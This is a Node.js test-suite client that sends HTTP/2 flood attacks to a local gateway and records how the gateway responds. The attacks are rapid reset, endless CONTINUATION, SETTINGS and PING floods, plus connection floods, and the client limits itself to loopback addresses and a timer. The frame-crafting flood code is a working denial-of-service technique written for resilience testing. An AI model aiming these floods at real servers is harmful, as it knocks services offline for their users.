// A hostile client for the reliability suite: HTTP/2 floods written frame by frame (rapid reset, CONTINUATION,
// SETTINGS, PING) and connection floods, from loopback addresses of its own (127.0.0.2 and up), reconnecting
// whenever the gateway closes a connection. Loopback only; stops by itself after --seconds.
//
//   node attacker.mjs --kind rapid-reset|continuation|settings|ping|connections --port <n> [--connections 8]
//                     [--seconds 10] [--first-address 2] [--addresses <n, default: --connections>] [--burst <frames>]
//
// --burst: each connection sends that many frames (about), then only reads until the gateway closes it (a client
// that stops writing reads the GOAWAY; one that keeps writing usually gets a reset first).
//
// Prints one JSON line: connections opened, frames sent, GOAWAY error codes received, how connections ended.
import * as net from 'node:net';

const argv = process.argv.slice(2);
const opt = (name, dflt) => {
  const i = argv.indexOf(`--${name}`);
  return i >= 0 ? argv[i + 1] : dflt;
};
const kind = opt('kind', 'rapid-reset');
const port = Number(opt('port', 0));
const parallel = Number(opt('connections', 8));
const seconds = Number(opt('seconds', 10));
const firstAddress = Number(opt('first-address', 2));
const addresses = Number(opt('addresses', parallel));
const burst = Number(opt('burst', 0));
const deadline = Date.now() + seconds * 1000;

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const TYPE = { HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7, CONTINUATION: 9 };
const FLAG = { END_STREAM: 0x1, END_HEADERS: 0x4 };

function frame(type, flags, streamId, payload = Buffer.alloc(0)) {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(streamId, 5);
  return Buffer.concat([h, payload]);
}

// :method GET, :scheme http, :path / (static table), :authority "a" (literal, not indexed)
const HEADER_BLOCK = Buffer.from([0x82, 0x86, 0x84, 0x01, 0x01, 0x61]);
const CANCEL = Buffer.from([0, 0, 0, 8]);
const HELLO = Buffer.concat([PREFACE, frame(TYPE.SETTINGS, 0, 0)]);

const stats = { kind, connections: 0, framesSent: 0, goaway: {}, closedByServer: 0, refusedAtConnect: 0, errors: {} };

/** The next batch of frames for a connection, or null when that kind sends nothing more. */
function batch(state) {
  const parts = [];
  switch (kind) {
    case 'rapid-reset':
      for (let i = 0; i < 200; i++) {
        const id = state.nextStream;
        state.nextStream += 2;
        parts.push(frame(TYPE.HEADERS, FLAG.END_STREAM | FLAG.END_HEADERS, id, HEADER_BLOCK), frame(TYPE.RST_STREAM, 0, id, CANCEL));
      }
      break;
    case 'continuation': {
      // one request whose header block never ends: CONTINUATION frames of a few small literal headers each
      if (state.nextStream === 1) {
        parts.push(frame(TYPE.HEADERS, FLAG.END_STREAM, 1, HEADER_BLOCK));
        state.nextStream = 3;
      }
      const lit = Buffer.from([0x00, 0x03, 0x78, 0x2d, 0x61, 0x04, 0x61, 0x61, 0x61, 0x61]); // x-a: aaaa
      for (let i = 0; i < 200; i++) parts.push(frame(TYPE.CONTINUATION, 0, 1, Buffer.concat([lit, lit, lit])));
      break;
    }
    case 'settings':
      // SETTINGS_ENABLE_PUSH=0 again and again; the acks the server owes are never read
      for (let i = 0; i < 200; i++) parts.push(frame(TYPE.SETTINGS, 0, 0, Buffer.from([0, 2, 0, 0, 0, 0])));
      break;
    case 'ping':
      for (let i = 0; i < 200; i++) parts.push(frame(TYPE.PING, 0, 0, Buffer.alloc(8, i & 0xff)));
      break;
    default:
      return null;
  }
  stats.framesSent += parts.length;
  return Buffer.concat(parts);
}

function connectOne(slot) {
  if (Date.now() >= deadline) return;
  const localAddress = `127.0.0.${firstAddress + (slot % addresses)}`;
  const s = net.connect({ port, host: '127.0.0.1', localAddress });
  stats.connections++;
  const state = { nextStream: 1, done: false, got: Buffer.alloc(0), sent: 0 };
  let opened = false;
  const reconnect = () => {
    if (state.done) return;
    state.done = true;
    s.destroy();
    setImmediate(() => connectOne(slot));
  };
  s.on('connect', () => {
    opened = true;
    if (kind === 'connections') return; // hold it open, send nothing
    s.write(HELLO);
    pump();
  });
  const pump = () => {
    while (!state.done && Date.now() < deadline) {
      if (burst > 0 && state.sent >= burst) return;
      const b = batch(state);
      if (!b) return;
      state.sent += 400;
      if (!s.write(b)) return void s.once('drain', pump);
    }
    if (Date.now() >= deadline) s.destroy();
  };
  // the floods of acks are meant to pile up unread; the other kinds read to see the GOAWAY
  if (kind !== 'settings' && kind !== 'ping') {
    s.on('data', (d) => {
      state.got = state.got.length ? Buffer.concat([state.got, d]) : d;
      while (state.got.length >= 9) {
        const len = state.got.readUIntBE(0, 3);
        if (state.got.length < 9 + len) break;
        if (state.got[3] === TYPE.GOAWAY && len >= 8) {
          const code = state.got.readUInt32BE(9 + 4);
          stats.goaway[code] = (stats.goaway[code] ?? 0) + 1;
        }
        state.got = state.got.subarray(9 + len);
      }
    });
  } else {
    s.pause();
  }
  s.on('error', (e) => {
    stats.errors[e.code ?? e.message] = (stats.errors[e.code ?? e.message] ?? 0) + 1;
  });
  s.on('close', () => {
    if (!opened) stats.refusedAtConnect++;
    else if (!state.done) stats.closedByServer++;
    if (kind === 'connections') {
      state.done = true;
      if (Date.now() < deadline) setTimeout(() => connectOne(slot), 10);
      return;
    }
    reconnect();
  });
}

for (let i = 0; i < parallel; i++) connectOne(i);
setTimeout(() => {
  process.stdout.write(JSON.stringify(stats) + '\n');
  process.exit(0);
}, seconds * 1000 + 500);
